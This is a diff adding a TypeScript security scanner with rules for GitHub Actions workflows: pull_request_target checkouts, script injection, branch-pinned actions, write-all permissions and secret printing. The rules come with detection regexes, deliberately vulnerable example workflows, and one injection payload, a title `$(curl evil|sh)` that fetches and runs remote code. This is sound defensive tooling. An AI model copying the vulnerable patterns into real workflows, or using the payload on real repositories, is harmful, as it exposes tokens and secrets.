@@ -1,0 +1,133 @@
+// Workflows of GitHub Actions: what of other people runs there, and what it may reach.
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples hold expressions of shells and of GitHub Actions
+import type { InspectedFile } from "../../../ports.ts";
+import { type KnownLine, knownLines } from "../known-lines.ts";
+import { type LineRule, type Match, rulesOf } from "../rule.ts";
+import { isComment, isWorkflow, linesOf, matchAt, searchLines } from "./line-rule.ts";
+
+const WORKFLOW = ".github/workflows/ci.yml";
+const TARGET =
+  /^\s*(?:-\s*)?["']?(?:pull_request_target|workflow_run)["']?\s*:?\s*$|^["']?on["']?\s*:\s*\[?[^#]{0,200}\b(?:pull_request_target|workflow_run)\b/;
+const HEAD_REF =
+  /^\s*(?:-\s*)?(?:ref|repository)\s*:[^#]{0,200}(?:github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_|refs\/pull\/)/;
+const HEAD_COMMAND =
+  /\bgit\s+(?:fetch|checkout|pull)\b[^#]{0,200}(?:pull_request\.head\.|github\.head_ref|refs\/pull\/|pull\/\$)|\bgh\s+pr\s+checkout\b/;
+
+function untrusted(file: InspectedFile): readonly Match[] {
+  const lines = knownLines(file).filter(({ text }) => text.length < 1000 && !isComment(text));
+  const trigger = lines.find(({ text }) => TARGET.test(text));
+  const checkouts = lines.filter(({ text }) => HEAD_REF.test(text) || HEAD_COMMAND.test(text));
+  if (trigger === undefined || checkouts.length === 0) return [];
+  const added = checkouts.filter((line) => line.added);
+  return (added.length > 0 ? added : [trigger]).map(({ line }) => matchAt(line));
+}
+
+const WRITTEN_BY_OTHERS =
+  /\$\{\{[^}]{0,200}\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|head_commit\.(?:message|author\.(?:name|email))|commits\b[^}]{0,40}\.(?:message|name|email)|pages\b[^}]{0,40}\.page_name|workflow_run\.(?:head_branch|display_title|head_commit\.message))|github\.head_ref)\b[^}]{0,100}\}\}/;
+const SCRIPT_KEY = /^\s*(?:-\s*)?(?:run|script)\s*:/;
+
+/** True when a line is a `run:` or `script:` entry, or stands in the block below one. */
+function isInScript(lines: readonly KnownLine[], at: KnownLine): boolean {
+  if (SCRIPT_KEY.test(at.text)) return true;
+  const indent = indentOf(at.text);
+  let expected = at.line - 1;
+  for (let index = lines.indexOf(at) - 1; index >= 0; index--) {
+    const line = lines[index];
+    if (line === undefined || line.line !== expected) return false;
+    expected--;
+    if (line.text.trim() === "" || indentOf(line.text) >= indent) continue;
+    return /^\s*(?:-\s*)?(?:run|script)\s*:\s*[|>][+-]?\d?\s*(?:#.*)?$/.test(line.text);
+  }
+  return false;
+}
+
+function indentOf(text: string): number {
+  return text.length - text.trimStart().length;
+}
+
+const ON_BRANCH =
+  /^\s*(?:-\s*)?uses\s*:\s*["']?([\w.-]+)\/([\w./-]+)@(main|master|develop|dev|trunk|HEAD)["']?\s*(?:#(?!.*exclude).*)?$/;
+/** A comment `ratchet:exclude` says that somebody decided it; GitHub's own, and actions whose documentation asks for a branch. */
+const TRUSTED_BRANCHES = new Set(["actions", "github", "dtolnay"]);
+
+const PRINTS_SECRET =
+  /^\s*(?:-\s*)?(?:run\s*:\s*)?(?:echo|printf|print|Write-(?:Host|Output))\b[^|>#]{0,300}\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)[\w.]{1,100}\s*\}\}[^|>]{0,300}$/;
+const ALL_SECRETS = /\btoJSON\(\s*secrets\s*\)/i;
+
+export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
+  {
+    id: "workflow-runs-untrusted-code",
+    title: "Privileged workflow checks out the code of a pull request",
+    severity: "critical",
+    confidence: 0.75,
+    why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
+    fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
+    bad: {
+      path: WORKFLOW,
+      code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
+    },
+    good: {
+      path: WORKFLOW,
+      code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
+    },
+    check: (file) => (isWorkflow(file) ? untrusted(file) : []),
+  },
+  {
+    id: "workflow-script-injection",
+    title: "Workflow inserts untrusted text into a script",
+    severity: "critical",
+    confidence: 0.85,
+    why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
+    fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
+    bad: { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
+    good: {
+      path: WORKFLOW,
+      code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
+    },
+    check: (file) => {
+      if (!isWorkflow(file)) return [];
+      const lines = knownLines(file);
+      return searchLines(file, (text, at) => WRITTEN_BY_OTHERS.test(text) && isInScript(lines, at));
+    },
+  },
+  {
+    id: "workflow-action-on-branch",
+    title: "Action of a third party follows a branch",
+    severity: "medium",
+    confidence: 0.6,
+    why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
+    fix: "Pin the action to a full commit SHA, with the version in a comment.",
+    bad: { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
+    good: {
+      path: WORKFLOW,
+      code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0",
+    },
+    check: linesOf(isWorkflow, (text) => {
+      const [, owner, name, branch] = ON_BRANCH.exec(text) ?? [];
+      return owner === undefined || TRUSTED_BRANCHES.has(owner) ? null : `${owner}/${name}@${branch}`;
+    }),
+  },
+  {
+    id: "workflow-write-all",
+    title: "Workflow gets every permission",
+    severity: "medium",
+    confidence: 0.8,
+    why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
+    fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
+    fixes: [{ from: /write-all/, to: "read-all" }],
+    bad: { path: WORKFLOW, code: "permissions: write-all" },
+    good: { path: WORKFLOW, code: "permissions: read-all" },
+    check: linesOf(isWorkflow, /^\s*permissions\s*:\s*["']?write-all\b/),
+  },
+  {
+    id: "workflow-prints-secret",
+    title: "Workflow hands out secrets",
+    severity: "major",
+    confidence: 0.65,
+    why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
+    fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
+    bad: { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
+    good: { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
+    check: linesOf(isWorkflow, (text) => !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text))),
+  },
+]);
